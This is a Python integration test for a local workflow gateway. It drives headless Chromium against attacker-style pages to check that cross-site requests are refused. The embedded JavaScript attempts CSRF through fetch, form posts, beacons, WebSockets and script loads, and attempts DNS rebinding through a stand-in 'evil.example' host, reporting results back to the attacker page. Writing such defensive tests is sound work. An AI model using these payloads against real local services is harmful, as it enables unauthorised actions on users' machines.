"""A real browser on pages that mean no good, and on one that is allowed. Needs Chromium."""

from __future__ import annotations

import asyncio
import json
import re
import shutil
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from runfold_gateway.door import guard
from tests.integration.test_projection_rebuild import began, ended
from tests.support.gateway import Gateway, gateway

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")
FLAGS = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-sync"),
    *("--disable-background-networking", "--disable-component-update", "--disable-dev-shm-usage"),
    # The attacker's own name, which he points to this machine.
    "--host-resolver-rules=MAP evil.example 127.0.0.1",
)
WITHIN = 60.0
YAML = b"id: mine\nnodes: [{id: n, type: noop}]\n"

SCRIPT = """
const flow = "id: taken\\nnodes: [{id: n, type: noop}]\\n";
const json = JSON.stringify({id: "taken", nodes: [{id: "n", type: "noop"}]});
const told = {name};
async function attempt(name, what) {
  try { told[name] = await what(); } catch (error) { told[name] = "blocked"; }
}
function form(url, type) {
  return new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = "f" + Math.random();
    document.body.append(frame);
    const form = document.createElement("form");
    Object.assign(form, {action: url, method: "POST", enctype: type, target: frame.name});
    const field = document.createElement("textarea");
    field.name = "id: taken\\nnodes: [{id: n, type: noop}]\\nname";
    field.value = "x";
    form.append(field);
    document.body.append(form);
    frame.onload = () => done("sent");
    form.submit();
  });
}
function listens(url) {
  return new Promise((done, failed) => {
    const source = new EventSource(url);
    source.onopen = () => { source.close(); done("open"); };
    source.onerror = () => { source.close(); failed(); };
  });
}
function loads(url) {
  return new Promise((done, failed) => {
    const script = document.createElement("script");
    Object.assign(script, {src: url, onload: () => done("loaded"), onerror: failed});
    document.body.append(script);
  });
}
function socket(url) {
  return new Promise((done, failed) => {
    const socket = new WebSocket(url);
    socket.onopen = () => done("open");
    socket.onerror = failed;
  });
}
async function attack(to) {
  const api = to + "/api";
  const simple = {method: "POST", mode: "no-cors", body: flow};
  await attempt("fetch", async () => (await fetch(api + "/workflows", simple)).type);
  await attempt("run", async () => (
    await fetch(api + "/workflows/mine/run", {method: "POST", mode: "no-cors"})).type);
  await attempt("json", async () => (await fetch(api + "/workflows", {
    method: "POST", headers: {"Content-Type": "application/json"}, body: json})).status);
  await attempt("put", async () => (
    await fetch(api + "/workflows/mine", {method: "PUT", body: flow})).status);
  await attempt("read", async () => (await (await fetch(api + "/workflows")).text()));
  await attempt("beacon", async () => navigator.sendBeacon(api + "/workflows", flow));
  await attempt("form", () => form(api + "/workflows", "text/plain"));
  await attempt("urlencoded", () => form(
    api + "/workflows", "application/x-www-form-urlencoded"));
  await attempt("stream", () => listens(api + "/runs/r/stream"));
  await attempt("script", () => loads(api + "/workflows"));
  await attempt("socket", () => socket(to.replace("http", "ws") + "/api/runs"));
  await fetch(report, {method: "POST", mode: "no-cors", body: JSON.stringify(told)});
}
"""
REFUSED = 7
"""Requests of an attack that the gateway itself refuses, preflights among them."""


def page(script: str) -> bytes:
    return f"<!doctype html><meta charset=utf-8><body><script>{script}</script>".encode()


class Site:
    """An attacker's web server: serves a page, takes reports, and passes on the rest.

    What it passes on goes to the gateway byte for byte: to the browser, page and gateway are then
    one origin, as after the attacker's name was pointed to another address.
    """

    def __init__(self, passes_to: Gateway) -> None:
        self._gateway = passes_to
        self._reports: asyncio.Queue[dict[str, Any]] = asyncio.Queue()
        self.port = 0
        self.pages: dict[str, bytes] = {}

    async def report(self) -> dict[str, Any]:
        async with asyncio.timeout(WITHIN):
            return await self._reports.get()

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await reader.readuntil(b"\r\n\r\n")
            line = head.partition(b"\r\n")[0]
            if line.startswith(b"GET /page/"):
                self._answer(writer, self.pages[line.split()[1].decode().removeprefix("/page/")])
            elif line.startswith(b"POST /report"):
                size = int(head.lower().split(b"content-length:")[1].split(b"\r\n")[0])
                self._reports.put_nowait(json.loads(await reader.readexactly(size)))
                self._answer(writer, b"")
            elif line.startswith(b"GET /favicon"):
                self._answer(writer, b"")
            else:
                await self._pass(head, reader, writer)
            await writer.drain()
        except (asyncio.IncompleteReadError, ConnectionError):
            pass  # The browser went.
        finally:
            writer.close()

    @staticmethod
    def _answer(writer: asyncio.StreamWriter, body: bytes) -> None:
        head = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n"
        writer.write(f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body)

    async def _pass(
        self, head: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        closing = head.replace(b"Connection: keep-alive", b"Connection: close")
        back, forth = await self._gateway.connect()
        forth.write(closing)

        async def sends() -> None:
            while piece := await reader.read(65536):
                forth.write(piece)

        sending = asyncio.create_task(sends())
        while piece := await back.read(65536):
            writer.write(piece)
        sending.cancel()
        forth.close()


@asynccontextmanager
async def site(passes_to: Gateway) -> AsyncIterator[Site]:
    made = Site(passes_to)
    server = await asyncio.start_server(made.serve, "127.0.0.1", 0)
    made.port = server.sockets[0].getsockname()[1]
    async with server:
        yield made


@asynccontextmanager
async def browser(directory: Path, url: str) -> AsyncIterator[None]:
    assert CHROMIUM
    process = await asyncio.create_subprocess_exec(
        *(CHROMIUM, *FLAGS, f"--user-data-dir={directory / 'profile'}"),
        *("--remote-debugging-port=0", url),
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    try:
        yield
    finally:
        if process.returncode is None:
            process.terminate()
        await process.wait()


class Refusals:
    """In place of the guard's log: counts what it refuses."""

    def __init__(self) -> None:
        self._seen: asyncio.Queue[dict[str, Any]] = asyncio.Queue()

    def info(self, _event: str, **about: Any) -> None:
        self._seen.put_nowait(about)

    async def wait(self, number: int) -> None:
        async with asyncio.timeout(WITHIN):
            for _ in range(number):
                await self._seen.get()


pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed")


async def test_pages_of_other_sites_store_and_run_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    refusals = Refusals()
    monkeypatch.setattr(guard, "log", refusals)
    async with gateway() as door, site(door) as evil:
        await door.ask("POST", "/api/workflows", body=YAML)
        before = await door.stored()
        own, other = f"http://127.0.0.1:{door.port}", f"http://localhost:{evil.port}"
        rebound = f"http://evil.example:{evil.port}"

        def attack(name: str, target: str) -> str:
            return f"const name = '{name}', report = '{other}/report';{SCRIPT}attack('{target}');"

        evil.pages = {
            "site": page(attack("site", own)),
            "port": page(attack("port", own)),
            "rebound": page(attack("rebound", rebound)),
        }
        sandboxed = json.dumps(page(attack("sandbox", own)).decode()).replace("</", "<\\/")
        frames = [
            f"frame({{src: '{other}/page/site'}});",
            f"frame({{src: 'http://127.0.0.1:{evil.port}/page/port'}});",
            f"frame({{src: '{rebound}/page/rebound'}});",
            f"frame({{sandbox: 'allow-scripts allow-forms', srcdoc: {sandboxed}}});",
        ]
        start = "function frame(how) { document.body.append(Object.assign("
        start += "document.createElement('iframe'), how)); }"
        start += "".join(frames) + attack("file", own)
        (tmp_path / "page.html").write_bytes(page(start))
        async with browser(tmp_path, (tmp_path / "page.html").as_uri()):
            reports = [await evil.report() for _ in range(5)]
            await refusals.wait(5 * REFUSED)
        assert await door.stored() == before
        assert door.asked_for == 0
        assert (await door.ask("GET", "/api/runs")).json["items"] == []
        assert {told["name"] for told in reports} == {"file", "site", "port", "rebound", "sandbox"}
        for told in reports:
            assert "mine" not in str(told["read"])
            assert told["socket"] == told["stream"] == "blocked"
            if told["name"] == "rebound":
                # It is told so much: that its name is not the gateway's.
                assert "host.not_allowed" in told["read"]
                assert (told["json"], told["put"]) == (421, 421)
            else:
                assert told["read"] == told["json"] == told["put"] == told["script"] == "blocked"


async def test_a_page_of_an_allowed_origin_works(tmp_path: Path) -> None:
    """The same page: what it is kept from above is what it does here."""
    async with gateway() as unused, site(unused) as evil:
        origin = f"http://localhost:{evil.port}"
        async with gateway(allowed_origins=origin) as door:
            await door.ask("POST", "/api/workflows", body=YAML)
            start = f"attack('http://127.0.0.1:{door.port}');"
            own = f"const name = 'own', report = '{origin}/report';{SCRIPT}{start}"
            evil.pages["own"] = page(own)
            async with browser(tmp_path, f"{origin}/page/own"):
                told = await evil.report()
            assert (told["json"], told["put"]) == (201, 422)
            assert "mine" in told["read"]
            assert "taken" in told["read"]
            assert door.asked_for == 1


async def test_a_page_follows_a_run_with_a_key_as_the_guide_shows(tmp_path: Path) -> None:
    guide = (Path(__file__).parents[2] / "docs" / "guides" / "call-the-api.md").read_text()
    shown = re.findall(r"```js\n(.*?)```", guide, re.DOTALL)[0]
    key = "0123456789abcdef"
    async with gateway() as unused, site(unused) as evil:
        origin = f"http://localhost:{evil.port}"
        async with gateway(allowed_origins=origin, api_key=key) as door:
            await began(door.bus, "r")
            await ended(door.bus, "r", "über")
            script = shown.replace("`/api", f"`http://127.0.0.1:{door.port}/api") + (
                "const seen = []; let last = '';"
                f"follow('r', '{key}', (event, data) => seen.push([event, data.outputs]))"
                f".then(() => fetch('{origin}/report', "
                "{method: 'POST', body: JSON.stringify({seen})}));"
            )
            evil.pages["own"] = page(script)
            async with browser(tmp_path, f"{origin}/page/own"):
                told = await evil.report()
    assert [event for event, _ in told["seen"]][-2:] == ["run_succeeded", "end"]
    assert told["seen"][-2] == ["run_succeeded", "über"]
